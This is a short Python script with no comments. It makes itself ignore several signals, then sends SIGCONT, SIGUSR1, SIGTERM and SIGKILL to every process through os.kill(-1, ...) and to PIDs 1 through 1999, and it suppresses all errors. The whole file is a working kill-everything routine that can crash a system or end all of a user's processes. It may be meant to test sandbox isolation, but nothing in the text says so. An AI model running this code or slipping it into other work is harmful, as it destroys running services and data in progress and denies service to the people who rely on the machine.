import os, sys, signal, time
print("began", flush=True)
def every(*calls):
    for call in calls:
        try:
            call()
        except (OSError, ValueError, AttributeError, TypeError) as e:
            pass

for s in (signal.SIGCONT, signal.SIGUSR1, signal.SIGTERM, signal.SIGKILL):
    signal.signal(s, signal.SIG_IGN) if s != signal.SIGKILL else None
    every(lambda: os.kill(-1, s), *[lambda p=p: os.kill(p, s) for p in range(1, 2000) if p != os.getpid()])
